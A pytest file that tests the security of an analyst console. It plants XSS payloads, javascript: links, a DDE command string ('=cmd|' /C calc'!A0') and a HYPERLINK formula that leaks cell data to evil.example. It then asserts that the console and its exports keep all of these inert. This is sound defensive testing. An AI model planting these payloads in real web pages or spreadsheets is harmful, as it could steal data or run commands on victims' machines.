"""The analyst console in real headless Chromium against a real uvicorn server on 127.0.0.1.

The data is a private copy of the demo sweep (conftest's ``demo_sweep``), plus hostile listings
planted through the Store API and a hostile page snapshot through the real EvidenceStore.
Set NETSWORD_DOC_SCREENSHOTS=1 to refresh docs/screenshots/ (README "分析员控制台").
"""

from __future__ import annotations

import csv
import io
import os
import re
import secrets
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
from cli_helpers import ROOT
from leads_fixtures import FAKE, ConsoleServer, copy_home, finding, listing, plant, shop
from openpyxl import load_workbook

from leads.users import add_user
from leads.web.app import ConsoleConfig, create_app, route_table
from pipelines.evidence import EvidenceStore
from pipelines.store import SearchQuery, open_store

playwright = pytest.importorskip("playwright.sync_api")
PASSWORD = "correct-horse-1"
PWN = "window.__pwned"
SCRIPT = "<script>window.__pwned=1;alert(1)</script>"
EVENT = '<img src=x onerror="window.__pwned=2;alert(2)">'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
RTL = "高仿\u202egpj.exe 正品"
HOSTILE_PAGE = ("<html><head><title>恶意快照</title><script>top.__pwned=6;parent.__pwned=6;alert(6)</script></head>"
                "<body><h1>恶意快照正文</h1><img src=x onerror=\"top.__pwned=7\">"
                "<form action='http://evil.example/'><input name=q></form></body></html>").encode()


def plant_hostile(store, evidence_dir: Path) -> dict[str, str]:
    sha, rel = EvidenceStore(evidence_dir).put_html(HOSTILE_PAGE)
    store.record_snapshot(sha, "http://evil.test/item/x1.html", rel, "2026-06-01T02:00:00+00:00", 200, "evil-sw", False)
    evil_shop = shop("EVIL", f'"><svg onload="window.__pwned=4">{SCRIPT}', site="evil", sweep="evil-sw",
                     operator="=cmd|' /C calc'!A0", license_number="@SUM(1+1)", phone="+1 555 0100",
                     address="\u202eevil street")
    plant(store, evil_shop, finding(evil_shop, "disclosure.no-license", "电子商务经营者未履行市场主体公示义务",
                                    "low", snippet=f"店铺【{SCRIPT}】", matched=("营业执照",)))
    items = [
        listing("x1", f"高仿 {SCRIPT}{EVENT}", site="evil", shop_id="EVIL", shop_name=EVENT, sweep="evil-sw",
                sha=sha, html_path=rel, url="javascript:window.__pwned=3"),
        listing("x2", HYPERLINK, site="evil", shop_id="EVIL", sweep="evil-sw"),
        listing("x3", RTL, site="evil", shop_id="EVIL", sweep="evil-sw"),
        listing("x4", "高仿" + "假" * (1 << 20), site="evil", shop_id="EVIL", sweep="evil-sw"),  # a 1 MB title
    ]
    for item in items:
        plant(store, item, finding(item, "fake.imitation", FAKE, "low",
                                   snippet=f"…【高仿】{item.title[:200]}【{EVENT}】"))
    return {"sha": sha, "lead": "evil:EVIL"}


@pytest.fixture(scope="module")
def console(demo_sweep, tmp_path_factory):
    home = copy_home(demo_sweep["home"], tmp_path_factory.mktemp("console-home"))
    store = open_store(home / "netsword.db")
    add_user(store, "analyst1", PASSWORD, "analyst")
    add_user(store, "admin1", PASSWORD, "admin")
    hostile = plant_hostile(store, home / "evidence")
    first = store.search(SearchQuery(text="高仿", site="demo")).hits[0]  # the lead the flow opens: give it a twin
    twin = store.get_shop(f"demo:{first.shop_id}")
    if twin is not None:
        store.upsert_shop(shop("S999", f"{twin.name}（二店）", phone=twin.phone, operator=twin.operator))
    store.flush()
    config = ConsoleConfig(str(home / "netsword.db"), str(home / "evidence"), secrets.token_urlsafe(48))
    app = create_app(config, store=store)
    with ConsoleServer(app) as server:
        yield SimpleNamespace(url=server.url, app=app, store=store, hostile=hostile, first=first)
    store.close()


@pytest.fixture(scope="module")
def browser():
    from crawler.browser import launch_options

    with playwright.sync_playwright() as p:
        b = p.chromium.launch(**launch_options())
        yield b
        b.close()


def logged_in(browser, console, user: str = "analyst1"):
    context = browser.new_context(accept_downloads=True, locale="zh-CN", viewport={"width": 1360, "height": 900})
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(console.url + "/search")
    assert "/login" in page.url
    page.fill("input[name=username]", user)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url("**/search")
    return page, dialogs


def doc_screenshot(page, name: str, full_page: bool = False) -> None:
    if os.environ.get("NETSWORD_DOC_SCREENSHOTS"):
        target = ROOT / "docs" / "screenshots" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(target), full_page=full_page)


def test_search_open_confirm_export(console, browser, tmp_path):
    page, dialogs = logged_in(browser, console)
    page.fill("input[name=q]", "高仿")
    page.click("form.filters button[type=submit]")
    page.wait_for_url("**/search?q=*")
    assert int(page.inner_text("#total")) >= 2
    assert page.locator("table.hits mark", has_text="高仿").count() >= 1  # highlighted, as <mark>
    assert page.locator(".facets a", has_text=FAKE).count() == 1  # facet counts
    if os.environ.get("NETSWORD_DOC_SCREENSHOTS"):
        page.goto(console.url + "/search?q=高仿&site=demo")
        doc_screenshot(page, "search.png")
        page.go_back()
    link = page.locator('a.lead-link[href^="/leads/demo:"]').first
    lead_id = link.get_attribute("href").removeprefix("/leads/")
    assert lead_id == f"demo:{console.first.shop_id}"
    link.click()
    page.wait_for_url(f"**/leads/{lead_id}")
    assert page.inner_text("#lead-status") == "待核查"
    assert page.locator("ul.group li").count() >= 1  # the planted twin shop shares the phone number
    page.click("#set-confirmed")
    page.wait_for_url(f"**/leads/{lead_id}")
    assert page.inner_text("#lead-status") == "已确认"
    assert re.search(r"analyst1：\s*状态 待核查 → 已确认", page.inner_text("#audit"))
    doc_screenshot(page, "lead.png", full_page=True)
    page.goto(console.url + "/search?q=高仿")
    with page.expect_download() as info:
        page.click("text=Excel（线索+明细）")
    path = tmp_path / "leads.xlsx"
    info.value.save_as(path)
    wb = load_workbook(path)
    assert wb.sheetnames == ["线索", "问题明细"]
    leads = [dict(zip(next(wb["线索"].values), row, strict=True)) for row in list(wb["线索"].values)[1:]]
    mine = next(r for r in leads if r["线索编号"] == lead_id)
    assert mine["状态"] == "已确认" and mine["主要违法类别"]
    findings = [dict(zip(next(wb["问题明细"].values), row, strict=True)) for row in list(wb["问题明细"].values)[1:]]
    hits = console.store.search(SearchQuery(text="高仿", limit=1000)).hits
    assert findings and {r["链接"] for r in findings} == {h.url for h in hits}  # the findings of the hits
    assert {r["状态"] for r in findings if r["店铺"] == mine["店铺"]} == {"已确认"}
    assert not dialogs


def assert_inert(page, dialogs: list[str]) -> None:
    assert page.evaluate(f"() => {PWN}") is None
    assert page.locator("script").count() == 0  # the console itself has no scripts at all
    assert page.locator('a[href^="javascript:"]').count() == 0
    assert not dialogs


def test_hostile_listings_do_not_execute_in_the_console(console, browser):
    page, dialogs = logged_in(browser, console)
    page.goto(console.url + "/search?q=高仿&site=evil")
    assert int(page.inner_text("#total")) == 4
    assert_inert(page, dialogs)
    html = page.content()
    assert "&lt;script&gt;window.__pwned=1" in html  # text, not an element
    assert page.locator("[onerror], [onload], svg, img, iframe").count() == 0
    assert "⟦U+202E⟧" in page.inner_text("body")  # the direction override is shown, not obeyed
    assert len(html) < 200_000  # the 1 MB title is cut for display
    page.goto(console.url + f"/leads/{console.hostile['lead']}")
    assert_inert(page, dialogs)
    assert SCRIPT in page.inner_text("h1")  # shown as text
    page.goto(console.url + "/leads")
    assert_inert(page, dialogs)
    page.goto(console.url + f"/evidence/{console.hostile['sha']}")
    frame = page.frame_locator("iframe.snapshot")
    assert frame.locator("h1").inner_text() == "恶意快照正文"  # rendered, in the sandbox
    assert_inert(page, dialogs)
    assert page.title().startswith("网页快照")
    response = page.goto(console.url + f"/evidence/{console.hostile['sha']}/page")  # opened on its own
    assert response.headers["content-security-policy"].startswith("sandbox")
    page.wait_for_timeout(300)
    assert not dialogs
    page.goto(console.url + "/search")
    assert_inert(page, dialogs)


def test_hostile_listings_stay_text_in_exports(console, browser, tmp_path):
    page, _ = logged_in(browser, console)
    page.goto(console.url + "/search?site=evil")
    with page.expect_download() as info:
        page.click("text=Excel（线索+明细）")
    info.value.save_as(tmp_path / "evil.xlsx")
    wb = load_workbook(tmp_path / "evil.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + HYPERLINK in values  # the title starting with = stays text
    assert all(not v.startswith(("=", "+", "-", "@")) for v in values)
    assert "'=cmd|' /C calc'!A0" in values and "'@SUM(1+1)" in values
    assert max(len(v) for v in values) <= 32767  # the 1 MB title fits a cell
    text = page.request.get(console.url + "/export?fmt=csv&site=evil").body().decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row)


def _fill(path: str) -> str:
    return re.sub(r"\{(\w+)(?::\w+)?\}", lambda m: {"sha256": "0" * 64}.get(m.group(1), "demo:S001"), path)


def _login(client: httpx.Client, user: str) -> str:
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
    r = client.post("/login", data={"username": user, "password": PASSWORD, "csrf_token": token, "next": "/"})
    assert r.status_code == 303 and r.headers["location"] == "/"
    cookie = r.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get("/search").text).group(1)


def test_every_route_but_login_needs_a_user_and_every_post_a_csrf_token(console):
    routes = route_table(console.app)
    assert ("GET", "/leads/{lead_id:path}") in routes and ("POST", "/triage/status") in routes
    assert not any(path.startswith(("/docs", "/openapi", "/redoc")) for _, path in routes)
    with httpx.Client(base_url=console.url) as anon:
        for method, path in routes:
            if path == "/login":
                continue
            r = anon.request(method, _fill(path), data={"lead_id": "demo:S001", "status": "dismissed"})
            if method == "GET":
                assert r.status_code == 303 and r.headers["location"].startswith("/login?next="), (method, path)
            else:
                assert r.status_code == 401, (method, path)
        assert anon.get("/login").status_code == 200
        # login itself needs the CSRF token of the login page
        assert anon.post("/login", data={"username": "analyst1", "password": PASSWORD}).status_code == 403
    with httpx.Client(base_url=console.url) as client:
        token = _login(client, "analyst1")
        for method, path in routes:
            if method == "POST" and path != "/login":
                r = client.post(_fill(path), data={"lead_id": "demo:S001", "status": "dismissed", "username": "x",
                                                   "password": "password-1", "note": "x", "csrf_token": "forged"})
                assert r.status_code == 403, path
        assert console.store.triage_events("demo:S001") == []  # nothing forged got through
        assert client.get("/users").status_code == 403  # analysts do not manage users
        r = client.post("/users", data={"username": "mallory", "password": "password-1", "role": "admin",
                                        "csrf_token": token})
        assert r.status_code == 403 and console.store.get_user("mallory") is None
        r = client.get("/search", headers={"accept": "text/html"})
        csp = r.headers["content-security-policy"]
        assert "default-src 'none'" in csp and "script-src" not in csp and "frame-ancestors 'none'" in csp
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["referrer-policy"] == "same-origin"
        r = client.post("/logout", data={"csrf_token": token})
        assert r.status_code == 303 and client.get("/search").status_code == 303
    with httpx.Client(base_url=console.url) as admin:
        token = _login(admin, "admin1")
        r = admin.post("/users", data={"username": "zhang", "password": "password-1", "role": "analyst",
                                       "csrf_token": token})
        assert r.status_code == 303 and console.store.get_user("zhang").role == "analyst"


def test_runs_page_lists_scheduled_and_manual_sweeps(console):
    from pipelines.store.base import SweepRun

    console.store.put_run(SweepRun("demo-double12-baseline-20261206T020000Z", "demo", "baseline", "2026网剑行动",
                                   "double12", started_at="2026-12-06T02:00:00+00:00",
                                   finished_at="2026-12-06T02:05:00+00:00", status="failed", pages=12, errors=3,
                                   message=f"退出码 1；{SCRIPT}"))
    console.store.flush()
    with httpx.Client(base_url=console.url) as client:
        _login(client, "analyst1")
        page = client.get("/runs").text
    rows = re.findall(r"<tr class=\"run-(\w+)\">(.*?)</tr>", page, re.S)
    by_id = {re.match(r"\s*<td><bdi>([^<]*)</bdi>", body).group(1): (status, body) for status, body in rows}
    scheduled = by_id["demo-double12-baseline-20261206T020000Z"]
    assert scheduled[0] == "failed" and "节前基准扫描" in scheduled[1] and "2026-12-06 10:00:00+08:00" in scheduled[1]
    assert "<script>" not in page and "&lt;script&gt;" in page
    manual = by_id["demo-e2e"]  # the demo sweep was started by hand (`netsword crawl`): no run record, still listed
    assert manual[0] == "ok" and "手动扫描" in manual[1]
    pages = int(re.findall(r'<td class="num">(\d+)</td>', manual[1])[0])
    assert pages > 400
